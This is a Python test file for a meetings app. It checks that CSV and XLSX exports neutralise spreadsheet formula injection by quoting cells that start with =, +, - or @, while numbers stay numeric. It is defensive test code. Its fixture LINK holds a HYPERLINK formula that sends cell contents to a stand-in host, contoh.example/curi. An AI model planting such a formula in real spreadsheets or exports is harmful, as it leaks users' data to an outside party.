"""No export runs what people typed (issue 18, Medium 10): text starting with = + - @ (or a
tab or carriage return) is neutralised in every CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import Workbook, load_workbook

from api.core.exports import FORMULA_TRIGGERS, append_row, csv_cell, csv_writer
from tests.meetings.conftest_attendance import Day, day, signed_in  # noqa: F401
from tests.meetings.test_stats import _range, _scenario
from tests.minutes.conftest import Committee, committee  # noqa: F401
from tests.minutes.test_actions_api import approved_with_actions, two_actions

HOSTILE = "=1+2-3@SUM(A1)"
LINK = '=HYPERLINK("https://contoh.example/curi?d="&A1,"Klik")'


def test_csv_cells_that_could_start_a_formula_are_quoted() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert csv_cell(f"{trigger}cmd") == f"'{trigger}cmd"
    assert csv_cell("JK ICT") == "JK ICT"
    assert csv_cell("") == ""
    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5 and csv_cell(None) is None
    buffer = io.StringIO()
    csv_writer(buffer).writerows([[HOSTILE, -4, "@me", "a=b"]])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [f"'{HOSTILE}", "-4", "'@me", "a=b"]


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [LINK, -7, "+60 3-8000 1000", "biasa", None])
    out = io.BytesIO()
    book.save(out)
    loaded = load_workbook(io.BytesIO(out.getvalue())).active
    assert loaded is not None
    cells = next(loaded.iter_rows())
    assert (cells[0].value, cells[0].data_type, cells[0].quotePrefix) == (LINK, "s", True)
    assert (cells[1].value, cells[1].data_type) == (-7, "n")
    assert (cells[2].data_type, cells[2].quotePrefix) == ("s", True)
    assert (cells[3].value, cells[3].quotePrefix) == ("biasa", False)


async def test_meeting_stats_csv_neutralises_a_committee_name(day: Day, signed_in: Any) -> None:  # noqa: F811
    from api.meetings.tables import Committee as CommitteeTable

    ids = await _scenario(day)
    await CommitteeTable.update({CommitteeTable.name: HOSTILE}).where(
        CommitteeTable.id == ids["finance"]
    )
    response = await (await signed_in("admin_a")).get("/api/meeting-stats.csv", params=_range())
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert f"'{HOSTILE}" in names and HOSTILE not in names
    ict = next(row for row in rows if row[0] == "JK ICT")
    assert ict[:5] == ["JK ICT", "2", "6", "3", "50.0"]  # figures are written as they were


async def test_actions_xlsx_holds_no_live_formula(committee: Committee) -> None:  # noqa: F811
    meeting_id = await approved_with_actions(committee, **two_actions(committee, text=LINK))
    sec = await committee.client("secretary")
    response = await sec.get(f"/api/meetings/{meeting_id}/actions/report/download?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # Wherever the report's layout puts it, the hostile text is a quoted text cell.
    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == LINK]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
